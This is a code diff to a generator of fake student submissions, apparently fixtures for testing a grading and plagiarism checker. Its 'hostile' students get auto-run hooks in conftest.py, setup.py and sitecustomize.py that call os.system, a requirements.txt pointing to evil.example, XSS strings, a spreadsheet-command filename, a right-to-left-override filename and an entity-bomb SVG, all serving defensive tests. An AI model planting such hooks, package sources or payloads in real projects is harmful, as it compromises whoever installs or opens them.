@@ -17,6 +17,7 @@ from pathlib import Path
 
 import numpy as np
 from PIL import Image
+from plagiarism import as_notebook, partial, program, renamed, reordered
 from student_phrases import (
     ABSENT_FROM_FORM,
     CODE,
@@ -265,7 +266,20 @@ class Writer:
             )
 
 
-KINDS = ["good"] * 9 + ["late"] * 3 + ["missing"] * 10 + ["typos"] * 7 + ["notebook"] * 6 + ["folders"] * 5
+KINDS = ["good"] * 6 + ["late"] * 3 + ["missing"] * 10 + ["typos"] * 6 + ["notebook"] * 5 + ["folders"] * 4
+KINDS += ["copied"] * 4 + ["hostile"] * 2
+DISGUISES = [
+    lambda text, other: {"training.py": renamed(text, 1).encode()},
+    lambda text, other: {"my_training.py": reordered(renamed(text, 2), 2).encode()},
+    lambda text, other: {"training.ipynb": as_notebook(text)},
+    lambda text, other: {"training.py": partial(text, other).encode()},
+]
+"""How those who copied hide it."""
+HARM = """
+import os
+open({marker!r}, "w").write("it was run")
+os.system("touch {marker}")
+"""
 NAMES = [
     ("Иванов", "Иван"),
     ("Petrova", "Anna"),
@@ -281,11 +295,41 @@ def invent(root: Path) -> list[Invented]:
     return [_student(root, index, kind) for index, kind in enumerate(KINDS)]
 
 
+def own_code(index: int, kind: str) -> dict[str, bytes]:
+    """What a student wrote besides the lines that the rubric looks for; of the first students, if copied."""
+    if kind == "copied":
+        place = index - KINDS.index("copied")
+        return DISGUISES[place](program(place), program(index))
+    if kind == "notebook":
+        return {"training.ipynb": as_notebook(program(index))}
+    return {"training.py": program(index).encode()}
+
+
+def harmful(root: Path) -> dict[str, bytes]:
+    """What a hostile student adds: code that leaves a mark where it is run, pages and names that attack."""
+    harm = HARM.format(marker=str(root / "it-was-run"))
+    bomb = b"<!DOCTYPE x [<!ENTITY a '" + b"x" * 1000 + b"'>]><svg>&a;</svg>"
+    return {
+        "conftest.py": harm.encode(),
+        "setup.py": harm.encode(),
+        "sitecustomize.py": harm.encode(),
+        ".gitattributes": b"* filter=evil diff=evil\n",
+        "requirements.txt": b"torch==2.1.0\n--index-url https://evil.example\nhttps://evil.example/x.whl\n",
+        "attack.md": b"<script>alert(1)</script>\n![x](javascript:alert(2))\n" + b"a" * 300_000 + b"\n",
+        "=cmd|' 'A1.py": b"x = 1\n",
+        "name\nwith\u202elines.py": b"x = 1\n",
+        "bomb.svg": bomb,
+        "broken.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
+    }
+
+
 def _student(root: Path, index: int, kind: str) -> Invented:
     draw = random.Random(index)
     language = "ru" if index % 2 else "en"
     last, first = NAMES[index % len(NAMES)]
     who = Invented(f"s{index:02d}", last, first, kind, root / f"s{index:02d}", on_time=kind != "late")
+    if kind == "copied":
+        who.copied_from = f"s{index - KINDS.index('copied'):02d}"
     works = draw.sample(list(NUMBERS), 2)
     who.named = kind not in ("missing",) or draw.random() < 0.5
     greeting = {
@@ -303,6 +347,10 @@ def _student(root: Path, index: int, kind: str) -> Invented:
         manner = "notebook" if kind == "notebook" else "page"
         writer = Writer(100 * index + NUMBERS[work], language, kind == "typos", manner)
         files = writer.write(work, items)
+        if "files" in items:
+            files |= own_code(index, kind)
+        if kind == "hostile":
+            files |= harmful(root)
         truth = {
             item: FOUND if item in items else MISSING
             for item in {*COMMON, *ITEMS[work]} - ABSENT_FROM_FORM.get(work, set())
